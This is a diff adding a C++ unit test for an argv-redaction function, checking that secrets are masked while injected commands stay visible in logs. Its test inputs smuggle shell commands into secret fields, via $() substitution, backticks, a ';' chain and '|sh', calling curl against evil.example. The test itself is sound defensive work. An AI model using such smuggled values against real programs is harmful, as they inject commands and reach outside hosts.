@@ -11,6 +11,13 @@ using Words = std::vector<std::string>;
 Words shown(const Words& words) { return redacted_argv(*Rules::common(), words); }
 std::string script(const std::string& text) { return shown({"/bin/bash", "-l", "-c", text}).back(); }
 
+TEST(RedactedArgv, WhatCouldBeRunStaysInTheRecord) {
+  EXPECT_EQ(shown({"sh", "-c", "API_KEY=\"x1$(curl${IFS}evil.example)\" true"}), (Words{"sh", "-c", "API_KEY=[redacted:argument]$(curl${IFS}evil.example) true"}));
+  EXPECT_EQ(shown({"sh", "-c", "API_KEY=x1`curl${IFS}evil.example`"}), (Words{"sh", "-c", "API_KEY=[redacted:argument]`curl${IFS}evil.example`"}));
+  EXPECT_EQ(shown({"ssh", "host", "API_KEY=x1;curl${IFS}evil.example"}), (Words{"ssh", "host", "API_KEY=[redacted:argument];curl${IFS}evil.example"}));
+  EXPECT_EQ(shown({"tool", "--password", "x1|sh"}), (Words{"tool", "--password", "[redacted:argument]|sh"}));
+}
+
 TEST(RedactedArgv, WhatStandsBehindAFlagThatNamesASecret) {
   for (const char* flag : {"--password", "--db-password", "--passwd", "--token", "--secret", "--api-key", "--apikey", "--access-key", "--auth", "--oauth2-bearer", "--credential",
                            "-password", "-passin", "--client_secret", "--accessToken"}) {
